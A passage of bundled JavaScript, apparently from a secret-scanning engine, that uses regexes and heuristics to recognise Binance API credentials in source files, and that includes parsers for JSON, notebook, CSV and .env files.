/** Imports stand near the top, and a manifest is short. */
const maxLooks = 60;
const samplePath = /(?:^|\/)(?:tests?|__tests__|__mocks__|mocks?|specs?|testing|testdata|test[-_]data|fixtures?|examples?|samples?|e2e|stubs?)\/|(?:\.|_|-)(?:test|tests|spec|e2e|mock)\.\w+$|(?:^|\/)(?:test_|conftest)[^/]*$|\.(?:example|sample|dist|template|tmpl|tpl)(?:\.\w+)?$|(?:^|\/)[^/]*(?:[._-])?(?:example|sample)s?\.[\w.]+$/i;
const manifest = /(?:^|\/)(?:package\.json|requirements[\w.-]*\.txt|pyproject\.toml|Pipfile|setup\.(?:py|cfg)|environment\.ya?ml|go\.mod|pom\.xml|build\.gradle(?:\.kts)?|[^/]+\.[cf]sproj|packages\.config|Cargo\.toml|composer\.json|Gemfile|mix\.exs|DESCRIPTION|pubspec\.yaml|Package\.swift)$/;
/** The name of an entry that says which exchange its neighbours are for. */
const exchangeKey$1 = /^(?:exchange|exchange_?name|exchange_?id|name|id|platform|provider|broker|brokerage|venue|market|type|connector|driver|service|source)$/i;
const ownName$2 = /(?:binance|\bbn[bc]?_)[\w.-]{0,30}?(?:api_?key|secret|_key|_api|_sec)(?![a-z])|\bbn[bc]?_(?:api|key|sec)(?![a-z])/i;
const maxSections = 20;
function sectionsOf(bindings) {
	const sections = /* @__PURE__ */ new Map();
	for (const { path, via } of bindings) {
		if (via !== "entry" || path.length < 2) continue;
		const level = path.findIndex((step) => /^_*(?:binance|tokocrypto)[\w-]{0,20}$/i.test(step));
		if (level < 0 || level === path.length - 1) continue;
		const section = path.slice(0, level + 1);
		sections.set(section.join("\0"), section);
		if (sections.size >= maxSections) break;
	}
	return [...sections.values()];
}
const urls$1 = /\b(?:https?|wss?):\/\/[^\s"'`<>\\)]{4,120}/gi;
/** A document that names more is a list of them. */
const mostUrls = 60;
/**
* The first host of another exchange: whatever its API looks like, a key for it is no key for Binance. None where a stranger's
* host has Binance's API, too.
*/
function exchangeHost(text) {
	let found;
	let looked = 0;
	for (const [url] of text.matchAll(urls$1)) {
		if ((looked += 1) > mostUrls) return void 0;
		const host = hostOf(url);
		const owner = host === void 0 ? void 0 : ownerOf$1(host);
		if (owner === "stranger" && apiWords.test(url)) return void 0;
		if (owner === "exchange") found ??= host;
	}
	return found;
}
/** Endpoints, parameters and fields of Binance's API. */
const apiWords = /\brecvWindow\b|\bnewClientOrderId\b|\/(?:fapi|dapi|sapi|eapi|papi)\/v\d|\/api\/v3\/|\blistenKey\b|\bquoteOrderQty\b|\bsubaccountId\b|\benable(?:SpotAndMarginTrading|VanillaOptions|Withdrawals)\b|\bpermitsUniversalTransfer\b/;
const symbols = /\b(?:BTC|ETH|BNB|SOL|XRP|ADA|DOGE|LTC)(?:USDT|BUSD|FDUSD|USDC)\b/;
/** True of the document as a whole; computed once for all its candidates. */
function surroundingsOf(document, reading) {
	const { text, path, head = "" } = document;
	const mentions = offsetsOf(require_worth_reading.isLatin(text) ? latinMention : mention, text);
	const isNamed = speaksOfBinance.test(text);
	const clues = [];
	const sdk = reading.imports.find(isSdk);
	if (sdk) clues.push(clue("binance-import", `the file imports ${require_worth_reading.shown(sdk)}`));
	if (isNamed && binanceHosts.test(text) || binanceHosts.test(head)) clues.push(clue("binance-host", "the file names a Binance host"));
	if (mentions.length > 0 || /binance/i.test(head)) clues.push(clue("binance-word", "the file speaks of Binance"));
	if (apiWords.test(text)) clues.push(clue("binance-api-word", "the file has words of Binance’s API"));
	else if (symbols.test(text)) clues.push(clue("binance-symbol", "the file names pairs as Binance does"));
	const otherHost = sdk || /binance/i.test(text) ? void 0 : exchangeHost(text);
	const otherImport = sdk || /binance/i.test(text) ? void 0 : reading.imports.find(require_worth_reading.namesOther);
	if (otherImport !== void 0) clues.push(clue("other-service-file", `the file imports ${require_worth_reading.shown(otherImport)}`));
	if (otherHost !== void 0) clues.push(clue("other-host", `the file names the host ${require_worth_reading.shown(otherHost)}`));
	if (!sdk && reading.imports.some((name) => /^ccxt/.test(name))) clues.push(clue("ccxt-import", "the file imports ccxt"));
	const byPath = toldByPath(path);
	clues.push(...byPath.clues);
	let known;
	let addresses;
	const acting = () => known ??= actingText(document, reading);
	const isPage = reading.language === "markdown" || reading.language === "text";
	const told = isNamed && !isPage ? alsoDone(toldApart(text, hostsEnvironment), () => hostsEnvironment(blanked(acting(), ownedAddresses(reading.bindings)))) : "unknown";
	return {
		acting,
		addresses: () => addresses ??= testnetAddresses(acting()),
		clues,
		environment: told !== "unknown" ? told : byPath.environment,
		sample: byPath.sample,
		namesOwn: ownName$2.test(text),
		sections: sectionsOf(reading.bindings),
		mentions,
		mayTellEnvironment: wordsIn$1(environmentWord, text),
		exchangesBeside: exchangesIn([...reading.bindings, ...reading.calls.flatMap(({ args }) => args)]),
		has: seenIn(text),
		containers: containerEnvironments(reading.bindings)
	};
}
const ccxtBinance = /\bccxt(?:pro)?(?:\.\w+){0,2}\.(?:New)?binance(?:usdm|coinm|us)?\b/i;
const chainPackages = /binance[-_]?chain|bnb-?chain/i;
function isSdk(name) {
	return !chainPackages.test(name) && (sdkPackages.test(`"${name}"`) || /(?:^|[./@:\\])binance/i.test(name));
}
/** What a document's path alone tells of every credential in it. */
function toldByPath(path) {
	return {
		clues: pathClues(path),
		environment: pathEnvironment(path),
		sample: samplePath.test(path)
	};
}
function pathClues(path) {
	const steps = path.split("/").map((step) => require_worth_reading.meaningOf(step));
	if (steps.some(({ binance }) => binance === "name")) return [clue("binance-path", "its path says Binance")];
	const other = steps.at(-1)?.exchange ?? steps.at(-2)?.exchange;
	return other ? [clue("other-service-file", `its path says ${other}`)] : [];
}
function seenIn(text) {
	const seen = /* @__PURE__ */ new Map();
	return (pattern) => {
		let found = seen.get(pattern);
		if (found === void 0) seen.set(pattern, found = pattern.test(text));
		return found;
	};
}
const blockSize = 8192;
/** No word that is looked for is longer. */
const longestWord = 40;
/** Whether a pattern is in the blocks that a part of a text lies in: each block is looked at once, and only if it is asked for. */
function wordsIn$1(pattern, text) {
	const known = /* @__PURE__ */ new Map();
	const hasBlock = (block) => {
		let has = known.get(block);
		if (has === void 0) {
			const part = text.slice(block * blockSize, (block + 1) * blockSize + longestWord);
			known.set(block, has = part.search(pattern) >= 0);
		}
		return has;
	};
	return (start, end) => {
		for (let block = Math.max(0, Math.floor(start / blockSize)); block * blockSize < end; block += 1) if (hasBlock(block)) return true;
		return false;
	};
}
function offsetsOf(pattern, text) {
	const offsets = [];
	for (const { index } of text.matchAll(pattern)) offsets.push(index);
	return offsets;
}
function exchangesIn(bindings) {
	const named = /* @__PURE__ */ new Map();
	const add = (place, exchange) => {
		const known = named.get(place);
		if (known) known.add(exchange);
		else named.set(place, /* @__PURE__ */ new Set([exchange]));
	};
	for (const { path, value, container } of bindings) {
		const key = path.at(-1) ?? "";
		const called = value.kind === "text" ? value.text : value.kind === "ref" ? value.path.at(-1) ?? "" : "";
		if (called === "" || called.length > 40 || container === 0 && !/exchange|broker|venue|connector/i.test(key) || !exchangeKey$1.test(key.replace(/^.*[_.-](?=exchange|name|id)/i, ""))) continue;
		const { exchange, binance } = require_worth_reading.meaningOf(called);
		if (!exchange && binance !== "name") continue;
		const name = binance === "name" ? "binance" : exchange ?? "binance";
		const prefix = path.slice(0, -1).join("\0");
		if (container !== 0) add(`in ${String(container)}`, name);
		if (prefix !== "") add(`under ${prefix}`, name);
		else if (container === 0) add("", name);
	}
	return (container, prefix) => [.../* @__PURE__ */ new Set([...named.get(`in ${String(container)}`) ?? [], ...named.get(prefix === "" && container === 0 ? "" : `under ${prefix}`) ?? []])];
}
/** The file's name if it is one that lists dependencies. */
function manifestName(path) {
	return manifest.test(path) ? path.slice(path.lastIndexOf("/") + 1) : void 0;
}
/**
* What the document says about its project, for the credentials of other files, and which files with credentials it
* expects. Looks only where Binance is named.
*/
function projectObservations(document) {
	const { path, text } = document;
	const manifestFile = manifestName(path);
	const isManifest = manifestFile !== void 0;
	const expects = speaksOfBinance.test(text) ? expectedFiles(document) : [];
	const more = expects.length > 0 ? { expects } : {};
	const observe = (found) => [{
		kind: "project",
		path,
		clue: found,
		keyFiles: isManifest ? [] : keyFilesIn(text),
		...variablesOf(text, isManifest),
		...more
	}];
	let host = false;
	let looked = 0;
	for (const { index } of text.matchAll(/binance|tokocrypto/gi)) {
		const line = text.slice(require_worth_reading.lineStart(text, index), require_worth_reading.lineEnd(text, index));
		if (isManifest && /^\s*(?:<artifactId>|["']?name["']?\s*[:=]|module\s)/.test(line) && require_worth_reading.meaningOf(line).binance === "name") return observe(clue("binance-dependency", `${manifestFile} says that the project is Binance’s`));
		const name = isManifest ? sdkPackages.exec(line)?.[0].replace(/["'\s]/g, "") : void 0;
		if (name) return observe(clue("binance-dependency", `${manifestFile ?? ""} names ${require_worth_reading.shown(name)}`));
		if (ccxtBinance.test(line)) return observe(clue("binance-sibling", "another file makes a client of ccxt for Binance"));
		const sdk = importsOf(line).find(isSdk);
		if (sdk) return observe(clue("binance-sibling", `another file imports ${require_worth_reading.shown(sdk)}`));
		host ||= liveHosts.test(line) || testnetHosts.test(line) || demoHosts.test(line);
		looked += 1;
		if (looked >= maxLooks) break;
	}
	if (host) return observe(clue("binance-sibling", "another file calls a Binance host"));
	return expects.length > 0 ? [{
		kind: "project",
		path,
		keyFiles: [],
		...more
	}] : [];
}
const speaksOfBinance = /binance|tokocrypto/i;
/** `os.environ["A"]`, `process.env.A`, `getenv("A")`, `env::var("A")`, `ENV.fetch("A")` */
const variable$3 = /(?:\benviron(?:\[|\.get\()|\b(?:os\.|sys\.)?get_?env\(|\benv(?:\(|::var\(|\.get\(|\[)|\bENV(?:\[|\.fetch\()|\b(?:process|import\.meta)\.env(?:\.|\[)|\bLookupEnv\(|\bGetEnvironmentVariable\(|\$_?ENV(?:\{|\[))\s{0,4}["'`]?([A-Z][A-Z0-9_]{2,60})\b/gi;
/** What makes a client, on the line of the variable or one of the two before it. */
const client = /binance|\b(?:Async)?Client\s*\(|\b(?:Spot|UMFutures|CMFutures|MainClient|USDMClient|CoinMClient|RestClientV\d)\s*\(|\bNew(?:\w{0,20})Client\s*\(/i;
const [mostVariables, mostRead] = [40, 1e3];
/** The variables that a program gives to clients: a name alone, `MAX_API_KEY`, tells nobody whose it is. */
function variablesOf(text, isManifest) {
	if (isManifest) return {};
	const names = /* @__PURE__ */ new Set();
	let read = 0;
	for (const { 1: name = "", index } of text.matchAll(variable$3)) {
		if ((read += 1) > mostRead || names.size === mostVariables) break;
		const { start } = require_worth_reading.linesAround(text, {
			start: index,
			end: index
		}, 2);
		if (require_worth_reading.meaningOf(name).role !== void 0 && client.test(text.slice(start, require_worth_reading.lineEnd(text, index)))) names.add(name);
	}
	return names.size > 0 ? { variables: [...names] } : {};
}
const maxKeyFiles = 20;
const keyFileEnding = /\.(?:pem|key|p8|pk8|prv|priv|der)\b/g;
const keyFileName = /[\w.-]{1,80}$/;
/** A line that loads a private key for signing, and not one for a server's certificate. */
const signs = /priv|prv|sign|secret|binance|rsa|ed25519|api_?key/i;
const serves = /\b(?:https?|tls|ssl|cert|ca|server)\b|createServer|ssl_|localhost/i;
function keyFilesIn(text) {
	const names = /* @__PURE__ */ new Set();
	for (const { index, 0: ending } of text.matchAll(keyFileEnding)) {
		const name = (keyFileName.exec(text.slice(Math.max(0, index - 80), index))?.[0] ?? "") + ending;
		const line = text.slice(require_worth_reading.lineStart(text, index), require_worth_reading.lineEnd(text, index));
		if (name !== ending && signs.test(line) && !serves.test(line)) names.add(name);
		if (names.size >= maxKeyFiles) break;
	}
	return [...names];
}
// ../engine/dist/clues/other-exchange.js
/** Whether a document is about another exchange than Binance: then what it sets and does is nothing of Binance's. */
/** Imports stand near the top. */
const topLength = 8e3;
/** Its path or an import names another exchange, and nothing in it speaks of Binance or of an API like Binance's. */
function isForOtherExchange({ path, text }) {
	return !require_worth_reading.latinBinanceWord.test(path) && (path.split("/").slice(-2).some(require_worth_reading.namesOther) || importsOf(text.slice(0, topLength)).some(require_worth_reading.namesOther)) && !ownWord.test(text) && !ownShortWord.test(text) && !apiWords.test(text) && (require_worth_reading.isLatin(text) || !require_worth_reading.binanceWord.test(text));
}
const ownWord = new RegExp(`${require_worth_reading.latinBinanceWord.source}|mbx`, "i");
/** As people shorten it: `BN_API_SECRET`, `bn.withdraw(…)`. Alone it may be the coin. */
const ownShortWord = /(?<![a-z])(?:bn[bc]?e?[_-]?(?:api|key|secret|sec|client|pass|token)|bn[bc]?\.\w{1,60}\()/i;
// ../engine/dist/read/entries.js
/**
* From this many bindings on a file is data: only texts that could hold a key are still kept, so that 8 MB of short
* strings cannot fill the memory (measured on 8 MB: 190 MB in all, 350 MB with twice the limit).
*/
const MANY = 5e4;
const ALMOST_A_KEY = 60;
/** Entries whose text names the neighbour `value`: Kubernetes, task definitions, Postman, app.config, run configs. */
const NAMES = /* @__PURE__ */ new Set(["name", "key"]);
const MAX_NAME = 60;
/** Longer steps of a path name nothing; a key of megabytes would stand in the path of everything below it. */
const MAX_STEP = 200;
/** `NAME=value` inside a text; a value that begins with `=` is a comparison or padding. */
const NAMED = /^[ \t]*(?:export[ \t]+)?([A-Za-z_][A-Za-z0-9_.-]{0,59})=(?=[^=\s])/;
/** Whether a global pattern matches more than `most` times: how large a parser's tree will be, before it is built. */
function hasMore$1(text, pattern, most) {
	let count = 0;
	for (const _ of text.matchAll(pattern)) if (++count > most) return true;
	return false;
}
var Entries = class {
	#language;
	#bindings = [];
	#comments = [];
	#containers = [];
	/** The path at which the reader stands; readers push and pop. */
	path = [];
	constructor(language) {
		this.#language = language;
		this.open(0);
	}
	/** Containers open at the moment, the file itself not counted. */
	get depth() {
		return this.#containers.length - 1;
	}
	/** Whether the reader stands directly in a list. */
	get inList() {
		return this.#containers.at(-1).kind === "list";
	}
	/** Enters the mapping, list, section or element that begins at `start`, at the current path. */
	open(start, kind = "map") {
		this.#containers.push({
			start: this.#containers.length === 0 ? 0 : Math.max(1, start),
			path: this.path.map(brief),
			kind
		});
	}
	close() {
		const { name, value, path, start } = this.#containers.pop();
		if (name === void 0 || value === void 0) return;
		const outer = this.#containers.at(-1);
		const parent = outer === void 0 || outer.kind === "map" ? path : path.slice(0, -1);
		this.#keep({
			...value,
			path: [...parent, name],
			container: outer?.start ?? start
		});
	}
	/** A leaf at the current path. Scalars that are items of a list say nothing and are left out. */
	add(value, span, via = "entry") {
		const container = this.#containers.at(-1);
		if (value.kind === "scalar" && container.kind === "list" || this.#isTooMuch(value)) return;
		this.#addTo(container, value, span, via);
	}
	/** The text of the open element itself: a neighbour of what stands next to the element, named by its `name`. */
	addContent(value, span) {
		if (this.#isTooMuch(value)) return;
		const own = this.#containers.at(-1);
		own.value = this.#addTo(this.#containers.at(-2) ?? own, value, span, "entry");
	}
	comment(start, end) {
		this.#comments.push({
			start,
			end
		});
	}
	reading() {
		while (this.#containers.length > 0) this.close();
		return {
			language: this.#language,
			imports: [],
			bindings: this.#bindings,
			calls: [],
			comments: this.#comments
		};
	}
	#keep(binding) {
		if (!this.#isTooMuch(binding.value)) this.#bindings.push(binding);
	}
	#isTooMuch(value) {
		return this.#bindings.length >= MANY && (value.kind !== "text" || value.text.length < ALMOST_A_KEY);
	}
	#addTo(container, value, span, via) {
		const binding = {
			path: this.path.map(brief),
			via,
			value,
			span,
			container: container.start
		};
		this.#keep(binding);
		this.#note(container, binding);
		if (value.kind === "text") this.#addNamed(value, span, container);
		return binding;
	}
	/** Remembers the halves of `name: X`, `value: Y` until the container closes. */
	#note(container, binding) {
		const { path, value } = binding;
		if (path.length !== container.path.length + 1) return;
		const name = path.at(-1);
		const key = name.slice(name.lastIndexOf(":") + 1).toLowerCase();
		if (key === "value") container.value = binding;
		else if (value.kind === "text" && NAMES.has(key) && value.text !== "" && value.text.length <= MAX_NAME) container.name = value.text;
	}
	/** `X=Y` as a whole text, or on every line of one (an .env file inside a ConfigMap). */
	#addNamed(value, span, container) {
		if (!NAMED.test(value.text)) return;
		const found = [];
		const parent = (container.kind === "list" ? this.path.slice(0, -1) : this.path).map(brief);
		let start = 0;
		while (start < value.text.length) {
			const newline = value.text.indexOf("\n", start);
			const end = newline < 0 ? value.text.length : newline;
			const line = value.text.slice(start, end);
			const match = NAMED.exec(line);
			if (match !== null) {
				const part = require_worth_reading.slice(value, unquoted(value.text, start + match[0].length, end));
				found.push({
					path: [...parent, match[1]],
					via: "entry",
					value: part,
					span,
					container: container.start
				});
			} else if (line.trim() !== "" && !line.trimStart().startsWith("#")) return;
			start = end + 1;
		}
		for (const binding of found) this.#keep(binding);
	}
};
function brief(step) {
	return step.length > MAX_STEP ? step.slice(0, MAX_STEP) : step;
}
const SCALAR = /^(?:true|false|null|[-+]?\d+(?:\.\d+)?(?:e[-+]?\d+)?)$/i;
/** An unquoted word as settings files mean it: number, boolean or null, else the text itself. */
function scalarOrText(value) {
	return value.text.length <= 40 && SCALAR.test(value.text) ? {
		kind: "scalar",
		text: value.text
	} : value;
}
/** The span [start, end) without blanks around it and without one pair of equal quotes. */
function unquoted(text, start, end) {
	while (end > start && text.charCodeAt(end - 1) <= 32) end--;
	const quote = text[start];
	return (quote === "\"" || quote === "'") && end - start >= 2 && text[end - 1] === quote ? {
		start: start + 1,
		end: end - 1
	} : {
		start,
		end
	};
}
// ../engine/dist/read/json.js
/**
* Reads JSON, JSON with comments and trailing commas, and streams of JSON values (NDJSON) into bindings. Texts that
* need more of JavaScript (single quotes, bare keys, templates) are left to the lexer.
*/
/** Thrown out of the visitor, which knows no other way to stop early. */
var Rejected$3 = class extends Error {};
/**
* Errors after which the visitor has lost nothing: it goes on with the token that it was looking at. (The constants
* of jsonc-parser are a `const enum`, which erases to nothing.)
*/
const HARMLESS = /* @__PURE__ */ new Set([
	6,
	14,
	15,
	16
]);
const END_OF_FILE_EXPECTED = 9;
/**
* A file that is cut off keeps all that stands before the cut. Any other syntax error gives `undefined`: the parser
* then skips to the next comma or brace, and what it skips may be the key that the lexer would find. Also `undefined`
* when nested deeper than MAX_DEPTH.
*/
function readJson(text) {
	const entries = new Entries("json");
	let at = 0;
	try {
		while (at !== void 0) at = readRoot(text, at, entries);
	} catch (error) {
		if (error instanceof Rejected$3) return void 0;
		throw error;
	}
	return entries.reading();
}
/** Reads the value that begins at or after `from`; returns where the next one begins, if there is one. */
function readRoot(text, from, entries) {
	const { path } = entries;
	/** For each open container the length of its path, and of a list the index of its latest item. */
	const open = [];
	let hasBegun = false;
	/** Where the list begins that has no item yet. */
	let empty;
	let next;
	const beginItem = () => {
		hasBegun = true;
		empty = void 0;
		if (entries.inList) path.push(String(++open.at(-1).index));
	};
	const begin = (offset, isList) => {
		beginItem();
		if (entries.depth >= 64) throw new Rejected$3();
		entries.open(from + offset, isList ? "list" : "map");
		open.push({
			length: path.length,
			index: -1
		});
		if (isList) empty = from + offset;
	};
	const end = (offset, length) => {
		entries.close();
		path.length = open.pop().length;
		if (empty !== void 0) entries.add({
			kind: "list",
			items: []
		}, {
			start: empty,
			end: from + offset + length
		});
		empty = void 0;
		path.pop();
	};
	const visitor = {
		onObjectBegin: (offset) => begin(offset, false),
		onArrayBegin: (offset) => begin(offset, true),
		onObjectEnd: end,
		onArrayEnd: end,
		onObjectProperty: (key) => void path.push(key),
		onLiteralValue: (value, offset, length) => {
			beginItem();
			const span = {
				start: from + offset,
				end: from + offset + length
			};
			if (typeof value !== "string") entries.add({
				kind: "scalar",
				text: text.slice(span.start, span.end)
			}, span);
			else if (value.length === length - 2) entries.add(require_worth_reading.verbatim(text, span.start + 1, span.end - 1), span);
			else entries.add(unescaped$3(text, span.start + 1, span.end - 1), span);
			path.pop();
		},
		onComment: (offset, length) => entries.comment(from + offset, from + offset + length),
		onError: (code, offset, length) => {
			if (HARMLESS.has(code)) return;
			if (code === END_OF_FILE_EXPECTED && "{[".includes(text[from + offset])) next = from + offset;
			else if (!hasBegun || length > 0) throw new Rejected$3();
		}
	};
	require_main.visit(from === 0 ? text : text.slice(from), visitor, {
		allowTrailingComma: true,
		allowEmptyContent: false
	});
	return next;
}
const ESCAPES$4 = {
	b: "\b",
	f: "\f",
	n: "\n",
	r: "\r",
	t: "	",
	"\"": "\"",
	"\\": "\\",
	"/": "/"
};
const HEX4 = /^[0-9a-fA-F]{4}$/;
/** The inside of a string. What is no escape of JSON loses its backslash, as in JavaScript. */
function unescaped$3(text, start, end) {
	const builder = new require_worth_reading.TextBuilder(text);
	let copied = start;
	for (let at = start; at < end; at++) {
		if (text.charCodeAt(at) !== 92) continue;
		builder.copy(copied, at);
		const escaped = text[at + 1];
		const hex = escaped === "u" ? text.slice(at + 2, Math.min(at + 6, end)) : "";
		const length = HEX4.test(hex) ? 6 : 2;
		const decoded = length === 6 ? String.fromCharCode(Number.parseInt(hex, 16)) : ESCAPES$4[escaped];
		if (decoded === void 0) copied = at + 1;
		else {
			builder.replace(decoded, at, at + length);
			copied = at + length;
		}
		at += length - 1;
	}
	return builder.copy(copied, end).value();
}
// ../engine/dist/read/cells.js
/** The cells of a notebook (.ipynb): source lines and outputs, joined to texts that map back to the file. */
const holders = /* @__PURE__ */ new Set([
	"source",
	"text",
	"text/plain",
	"text/html",
	"input"
]);
/** Undefined where the text is no JSON. `isWanted` is asked of each line; a cell without a wanted one is left out. */
function cellsOf(text, isWanted) {
	const json = readJson(text);
	if (!json) return void 0;
	const lines = /* @__PURE__ */ new Map();
	for (const { path, value } of json.bindings) {
		const at = path.findIndex((step) => holders.has(step));
		if (value.kind !== "text" || path[0] !== "cells" || at < 0) continue;
		require_gates.addToGroup(lines, path.slice(0, at + 1).join("\0"), value);
	}
	const cells = [];
	for (const [path, values] of lines) {
		if (!values.some((line) => isWanted(line.text))) continue;
		cells.push({
			kind: /(?:source|input)$/.test(path) ? "source" : "output",
			value: require_worth_reading.concat(values)
		});
	}
	return cells;
}
// ../engine/dist/read/csv.js
const MAX_COLUMNS = 500;
/**
* The separator is the one of `,` `;` tab and `|` that the first line has most of. Rows may differ in length, quoted
* fields may span lines, and blank lines are skipped. `undefined` when the first line has no separator.
*/
function readCsv(text) {
	const separator = separatorOf(text);
	if (separator === void 0) return void 0;
	const entries = new Entries("csv");
	const first = rowAt(text, 0, separator);
	const header = isHeader(first.fields) ? first.fields.map(({ value }) => value.text.trim()) : [];
	for (let at = header.length > 0 ? first.next : 0; at < text.length;) {
		const row = rowAt(text, at, separator);
		entries.open(at);
		for (const [column, { value, span }] of row.fields.entries()) {
			const name = header[column];
			if (value.text === "") continue;
			if (name !== void 0 && name !== "") entries.path.push(name);
			entries.add(value, span, entries.path.length > 0 ? "column" : "bare");
			entries.path.length = 0;
		}
		entries.close();
		at = row.next;
	}
	return entries.reading();
}
function separatorOf(text) {
	const line = /^[\r\n]*([^\r\n]{0,20000})/.exec(text)?.[1] ?? "";
	let best;
	let most = 0;
	for (const separator of [
		",",
		";",
		"	",
		"|"
	]) {
		const count = line.split(separator).length - 1;
		if (count > most) [best, most] = [separator, count];
	}
	return best;
}
/** A header names its columns: short words, letters in each, no two alike. Values of a first row seldom are all so. */
function isHeader(fields) {
	const names = fields.map(({ value }) => value.text.trim()).filter((name) => name !== "");
	const areNames = names.every((name) => /^[\p{L}_$#@][\p{L}\p{M}\p{N}\s_.$#@()/%-]{0,50}$/u.test(name));
	return names.length > 0 && areNames && new Set(names).size === names.length;
}
function rowAt(text, start, separator) {
	const fields = [];
	for (let at = start;;) {
		const field = fieldAt(text, at, separator);
		if (fields.length < MAX_COLUMNS) fields.push(field);
		at = field.next;
		if (field.isLast) return {
			fields,
			next: at
		};
	}
}
function fieldAt(text, start, separator) {
	let from = start;
	while (text[from] === " ") from++;
	const quoted = text[from] === "\"" ? quotedAt(text, from) : void 0;
	let end = quoted?.end ?? from;
	while (end < text.length && text[end] !== separator && text[end] !== "\n" && text[end] !== "\r") end++;
	const isLast = text[end] !== separator;
	const next = Math.min(text.length, text.startsWith("\r\n", end) ? end + 2 : end + 1);
	if (quoted !== void 0) return {
		value: quoted.value,
		span: {
			start: from,
			end: quoted.end
		},
		next,
		isLast
	};
	let stop = end;
	while (stop > from && text[stop - 1] === " ") stop--;
	return {
		value: require_worth_reading.verbatim(text, from, stop),
		span: {
			start: from,
			end: stop
		},
		next,
		isLast
	};
}
/** The quoted text that begins at `start`; doubled quotes stand for one. `undefined` when it never closes. */
function quotedAt(text, start) {
	const builder = new require_worth_reading.TextBuilder(text);
	let copied = start + 1;
	for (let at = text.indexOf("\"", copied); at >= 0; at = text.indexOf("\"", copied)) {
		builder.copy(copied, at);
		if (text[at + 1] !== "\"") return {
			value: builder.value(),
			end: at + 1
		};
		builder.replace("\"", at, at + 2);
		copied = at + 2;
	}
}
// ../engine/dist/read/lines.js
/** The line that begins at `start`. Line breaks are LF, CRLF and lone CR. */
function lineAt(text, start) {
	let end = start;
	for (; end < text.length; end++) {
		const code = text.charCodeAt(end);
		if (code === 10) return {
			start,
			end,
			next: end + 1
		};
		if (code === 13) return {
			start,
			end,
			next: text.charCodeAt(end + 1) === 10 ? end + 2 : end + 1
		};
	}
	return {
		start,
		end,
		next: end
	};
}
/** The offset of the first character in [start, end) that is no blank, or `end`. */
function skipBlanks(text, start, end) {
	while (start < end && isBlank(text.charCodeAt(start))) start++;
	return start;
}
/** The end of [start, end) without the blanks before it. */
function trimEnd(text, start, end) {
	while (end > start && isBlank(text.charCodeAt(end - 1))) end--;
	return end;
}
/** Space, tab, form feed, line breaks, no-break space. */
function isBlank(code) {
	return code === 32 || code >= 9 && code <= 13 || code === 160;
}
/** Where a comment begins that follows a value: the first of `marks` after a blank; `end` when there is none. */
function inlineComment(text, start, end, marks) {
	for (let at = start + 1; at < end; at++) if (marks.includes(text[at]) && isBlank(text.charCodeAt(at - 1))) return at;
	return end;
}
const ASSIGNMENT$1 = /^[#;!/]+[ \t]*(?:export[ \t]+|set[ \t]+)?([A-Za-z_][A-Za-z0-9_.-]{0,80})[ \t]*=[ \t]*(?=[^\s=])/;
/**
* The assignment that a comment line takes out of use: its key, and where its value begins. Only `name = value`
* counts; `# note: text` is prose.
*/
function commentedAssignment(text, line) {
	const start = skipBlanks(text, line.start, line.end);
	const match = ASSIGNMENT$1.exec(text.slice(start, Math.min(line.end, start + 200)));
	return match === null ? void 0 : {
		key: match[1],
		value: start + match[0].length
	};
}
/** A line that is no assignment is still text: people paste keys without a name. */
function addBare(entries, text, start, end) {
	if (end > start) entries.add(require_worth_reading.verbatim(text, start, end), {
		start,
		end
	}, "bare");
}
// ../engine/dist/read/env.js
const ASSIGNMENT = /^(?:export[ \t]+|set[ \t]+)?(["']?)([A-Za-z_][A-Za-z0-9_.-]{0,120})\1[ \t]*(?:=|:[ \t])[ \t]*/;
const LONGEST_NAME = 400;
/**
* Quoted values may span lines (PEM); double quotes decode `\n` and the like. Other lines become `bare` bindings.
* `undefined` when less than half of the lines that are no comments are assignments.
*/
function readEnv(text) {
	const entries = new Entries("env");
	let assignments = 0;
	let others = 0;
	for (let at = 0; at < text.length;) {
		const line = lineAt(text, at);
		at = line.next;
		const start = skipBlanks(text, line.start, line.end);
		if (start === line.end) continue;
		if (text[start] === "#") {
			entries.comment(start, line.end);
			const commented = commentedAssignment(text, line);
			if (commented !== void 0) addValue$2(entries, text, commented.key, commented.value, line.end, true);
			continue;
		}
		const match = ASSIGNMENT.exec(text.slice(start, Math.min(line.end, start + LONGEST_NAME)));
		if (match === null) {
			others++;
			addBare(entries, text, start, trimEnd(text, start, line.end));
		} else {
			assignments++;
			const end = addValue$2(entries, text, match[2], start + match[0].length, line.end, false);
			if (end > line.end) at = lineAt(text, end).next;
		}
	}
	return assignments > 0 && assignments >= others ? entries.reading() : void 0;
}
/**
* Adds the value that begins at `start`, on a line that ends at `end`, and returns where it ends, which may be lines
* later. Of a line that is itself a comment (`isComment`) nothing is a comment again, and its quotes close in it.
*/
function addValue$2(entries, text, key, start, end, isComment) {
	const quoted = readQuoted(text, start, end, isComment);
	const lastEnd = quoted === void 0 || quoted.end <= end ? end : lineAt(text, quoted.end).end;
	const comment = inlineComment(text, quoted?.end ?? start - 1, lastEnd, "#");
	if (comment < lastEnd && !isComment) entries.comment(comment, lastEnd);
	const stop = quoted?.end ?? trimEnd(text, start, comment);
	entries.path.push(key);
	entries.add(quoted?.value ?? scalarOrText(require_worth_reading.verbatim(text, start, stop)), {
		start,
		end: stop
	});
	entries.path.pop();
	return lastEnd;
}
/** The next line looks like an assignment of its own; base64 that ends in `=` does not. */
const NEXT_ASSIGNMENT = /(?:^|[\r\n])[ \t]*(?:export[ \t]+)?[A-Za-z_]\w{0,120}[ \t]{0,9}=[ \t]{0,9}[^=\s]/;
/**
* The quoted value that begins at `start`, or `undefined` when there is none or its quote never closes, or closes
* only beyond another assignment: then somebody forgot it.
*/
function readQuoted(text, start, end, oneLine) {
	const quote = text[start];
	if (start >= end || quote !== "\"" && quote !== "'" && quote !== "`") return void 0;
	const close = closingQuote(text, start + 1, quote, oneLine ? end : text.length);
	if (close === void 0) return void 0;
	if (close > end && NEXT_ASSIGNMENT.test(text.slice(end, close))) return void 0;
	return {
		value: quote === "\"" ? unescaped$2(text, start + 1, close) : require_worth_reading.verbatim(text, start + 1, close),
		end: close + 1
	};
}
function closingQuote(text, start, quote, end) {
	for (let at = start; at < end; at++) {
		if (text[at] === quote) return at;
		if (quote === "\"" && text[at] === "\\") at++;
	}
}
const ESCAPES$3 = {
	n: "\n",
	r: "\r",
	t: "	",
	"\"": "\"",
	"\\": "\\",
	$: "$",
	"`": "`"
};
/** The inside of double quotes. A backslash before any other character stands for itself. */
function unescaped$2(text, start, end) {
	const builder = new require_worth_reading.TextBuilder(text);
	let copied = start;
	for (let at = start; at + 1 < end; at++) {
		if (text.charCodeAt(at) !== 92) continue;
